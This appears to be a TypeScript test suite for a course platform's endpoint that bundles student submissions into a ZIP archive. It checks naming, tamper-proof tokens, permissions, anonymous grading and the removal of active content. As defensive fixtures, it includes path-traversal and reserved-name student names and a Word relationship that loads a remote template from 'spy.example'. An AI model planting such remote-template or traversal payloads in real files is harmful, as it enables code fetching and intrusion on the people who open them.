import { customProperty } from '@antecedent/domain/office/package/custom-property';
import { readPart, readZip, replaceParts } from '@antecedent/domain/office/zip/zip';
import { SECOND } from '@antecedent/domain/time';
import { eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { auditLog, users } from '../../ground/db/schema/accounts.ts';
import { officeCodec } from '../../ground/platform/storage/office-codec.ts';
import { submitted } from '../../testing/drafts.ts';
import type { TestUser } from '../../testing/factories.ts';
import { type AppWithHeavyNode, startWithHeavyNode } from '../../testing/heavy-node.ts';
import { aHiddenClass, textsOf, traces } from '../../testing/hidden-class.ts';
import {
  aClassWithAssignment,
  aDocument,
  anAssistant,
  enrolled,
  saved,
  savedAs,
  started,
} from '../../testing/scenarios.ts';
import { readWorkToken, WORK_PROPERTY, workToken } from './work-token.ts';

let server: AppWithHeavyNode;
beforeAll(async () => {
  server = await startWithHeavyNode();
});
afterAll(() => server.close());

type Scene = Awaited<ReturnType<typeof aClassWithAssignment>>;

/** A student with this name who submitted the first draft; the text contains the last name. */
async function aWriter(scene: Scene, firstName: string, lastName: string) {
  const student = await enrolled(server, scene.course);
  await server.db.update(users).set({ firstName, lastName }).where(eq(users.id, student.id));
  const work = await started(server, student, scene.assignment);
  server.advance(7 * SECOND);
  await saved(server, student, work.fileId, `Essay of ${lastName}.`);
  expect(await submitted(server, student, work.submissionId, scene.assignment.drafts[0])).toBe(200);
  return { student, ...work };
}

const requested = (
  who: TestUser,
  scene: Pick<Scene, 'assignment'>,
  choice: { submissionIds?: string[]; names?: string; draftId?: string } = {},
) =>
  server.app.inject({
    method: 'POST',
    url: '/api/classes/assignment/work',
    headers: server.as(who),
    payload: {
      assignmentId: scene.assignment.id,
      draftId: scene.assignment.drafts[0]?.id,
      names: 'name',
      ...choice,
    },
  });

/** The files of an archive by name. */
async function unpacked(...asked: Parameters<typeof requested>) {
  const response = await requested(...asked);
  expect(response.statusCode, response.body).toBe(200);
  const { entries } = readZip(new Uint8Array(response.rawPayload));
  const files = new Map(entries.map((entry) => [entry.name, readPart(entry, officeCodec.inflate)]));
  const index = Buffer.from(files.get('Index.csv') ?? []).toString('utf8');
  return { response, files, names: [...files.keys()], index };
}

describe('POST /classes/assignment/work', () => {
  it('has what everyone submitted, by name and with an index', async () => {
    const scene = await aClassWithAssignment(server);
    await aWriter(scene, 'Amara', 'Koné');
    await aWriter(scene, 'amara', 'Kone');
    const { student } = await aWriter(scene, '../..', 'CON: a|b');
    const begun = await started(server, await enrolled(server, scene.course), scene.assignment);
    const { response, files, names, index } = await unpacked(scene.course.instructor, scene);
    expect(response.headers['content-type']).toBe('application/zip');
    expect(response.headers['content-disposition']).toContain('.zip');
    expect(names).toHaveLength(4);
    expect(new Set(names.map((name) => name.toLowerCase().normalize('NFKD'))).size).toBe(4);
    for (const name of names) expect(name).not.toMatch(/[<>:"|?*\\/]/);
    expect(names.at(-1)).toBe('Index.csv');
    const [kone = ''] = names.filter((name) => /^Kone, amara/.test(name));
    expect(textsOf(files.get(kone) ?? new Uint8Array())).toContain('Essay of Kone.');
    expect(index).toMatch(/^\uFEFFFile,Student,Username,Email,Submitted,Late,Note\r\n/);
    expect(index).toContain(student.email);
    expect(index.trim().split('\r\n')).toHaveLength(4);
    expect(index).not.toContain(begun.submissionId);
  });

  it('marks each document so that it is known again under any name', async () => {
    const scene = await aClassWithAssignment(server);
    const { submissionId } = await aWriter(scene, 'Ada', 'Lovelace');
    const { files, names } = await unpacked(scene.course.instructor, scene, { names: 'number' });
    expect(names[0]).toMatch(/^001/);
    const archive = readZip(files.get(names[0] ?? '') ?? new Uint8Array());
    const token = customProperty(archive, WORK_PROPERTY, officeCodec.inflate) ?? '';
    expect(await readWorkToken(server.services, token)).toEqual({ submissionId, version: 1 });
    const other = await workToken(server.services, {
      submissionId: scene.assignment.id,
      version: 1,
    });
    const forged = other.slice(0, 20) + token.slice(20);
    expect(await readWorkToken(server.services, forged)).toBeNull();
    expect(await readWorkToken(server.services, 'x')).toBeNull();
  });

  it('has only those who were chosen, and knows no others', async () => {
    const scene = await aClassWithAssignment(server);
    const chosen = await aWriter(scene, 'Ada', 'Lovelace');
    await aWriter(scene, 'Ben', 'Okri');
    const { names } = await unpacked(scene.course.instructor, scene, {
      submissionIds: [chosen.submissionId],
    });
    expect(names).toHaveLength(2);
    const elsewhere = await aWriter(await aClassWithAssignment(server), 'Cy', 'Twombly');
    const foreign = await requested(scene.course.instructor, scene, {
      submissionIds: [chosen.submissionId, elsewhere.submissionId],
    });
    expect(foreign.statusCode).toBe(404);
    const foreignDraft = (await aClassWithAssignment(server)).assignment.drafts[0]?.id ?? '';
    const wrong = await requested(scene.course.instructor, scene, { draftId: foreignDraft });
    expect(wrong.statusCode).toBe(404);
  });

  it('says so if nothing was submitted', async () => {
    const scene = await aClassWithAssignment(server);
    await started(server, await enrolled(server, scene.course), scene.assignment);
    const response = await requested(scene.course.instructor, scene);
    expect(response.statusCode).toBe(409);
    expect(response.json().key).toBe('submissions.nothingSubmitted');
  });

  it('is for assistants too, in the audit log, and not in the archive of a student', async () => {
    const scene = await aClassWithAssignment(server);
    const { student } = await aWriter(scene, 'Ada', 'Lovelace');
    const assistant = await anAssistant(server, scene.course);
    expect((await requested(assistant, scene)).statusCode).toBe(200);
    expect((await requested(student, scene)).statusCode).toBe(403);
    const logged = await server.db
      .select()
      .from(auditLog)
      .where(eq(auditLog.object, `assignment ${scene.assignment.id}`));
    expect(logged).toMatchObject([{ action: 'submission.archive', actorId: assistant.id }]);
  });

  it('has pseudonyms and no trace of names in grading without names', async () => {
    const { hidden, instructor, students } = await aHiddenClass(server, 3);
    for (const names of ['name', 'number']) {
      const {
        files,
        names: paths,
        index,
      } = await unpacked(instructor, { assignment: hidden }, { names });
      expect(paths.filter((path) => /^Student \d+/.test(path))).toHaveLength(3);
      expect(index).toMatch(/^\uFEFFFile,Student,Submitted,Late,Note\r\n/);
      const told = [
        ...paths,
        index,
        ...[...files].flatMap(([path, bytes]) => (path.endsWith('.docx') ? textsOf(bytes) : [])),
      ].join('\n');
      expect(told).toContain('The ferry left at dawn.');
      for (const trace of students.flatMap(traces)) expect(told).not.toContain(trace);
    }
  });

  it('has no active content', async () => {
    const scene = await aClassWithAssignment(server, { drafts: 1 });
    const { student, submissionId, fileId } = await aWriter(scene, 'Ada', 'Lovelace');
    const document = aDocument('Pixel.');
    const settings = `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://spy.example/t.dotm" TargetMode="External"/></Relationships>`;
    const added = new Map([['word/_rels/settings.xml.rels', new TextEncoder().encode(settings)]]);
    const bytes = replaceParts(document, readZip(document), added, officeCodec.deflate);
    expect(textsOf(bytes)).toContain('spy.example');
    await savedAs(server, student, fileId, { bytes, origin: 'edit' });
    const second = scene.assignment.drafts.at(-1);
    expect(await submitted(server, student, submissionId, second)).toBe(200);
    const { files } = await unpacked(scene.course.instructor, scene, {
      draftId: second?.id ?? '',
    });
    const [sent = new Uint8Array()] = files.values();
    expect(textsOf(sent)).toContain('Pixel.');
    expect(textsOf(sent)).not.toContain('spy.example');
  });

  it('prepares large files where they keep no one waiting', async () => {
    const scene = await aClassWithAssignment(server, { drafts: 1 });
    const { student, submissionId, fileId } = await aWriter(scene, 'Ada', 'Lovelace');
    const paragraphs = Array.from({ length: 12_000 }, (_, at) => `Large ${at} ${at * 7_919}`);
    const file = await server.servicesBehind.versions.findFile(fileId);
    await server.servicesBehind.versions.saveVersion({
      fileId,
      bytes: aDocument(...paragraphs),
      authorId: student.id,
      byStudent: true,
      origin: 'edit',
      at: server.now(),
      flags: { modifiedByUser: true, autosave: true, exitSave: false },
      presence: 'online',
      writeEpoch: file?.writeEpoch ?? 0,
      lock: 'any',
    });
    const second = scene.assignment.drafts.at(-1);
    expect(await submitted(server, student, submissionId, second)).toBe(200);
    server.handedOver.length = 0;
    const { files } = await unpacked(scene.course.instructor, scene, {
      draftId: second?.id ?? '',
    });
    expect(server.handedOver).toEqual(['GET /api/classes/submission/work']);
    const [document = new Uint8Array()] = files.values();
    expect(textsOf(document)).toContain('Large 11999');
    const token = customProperty(readZip(document), WORK_PROPERTY, officeCodec.inflate) ?? '';
    expect(await readWorkToken(server.services, token)).toMatchObject({ submissionId });
  }, 60_000);
});
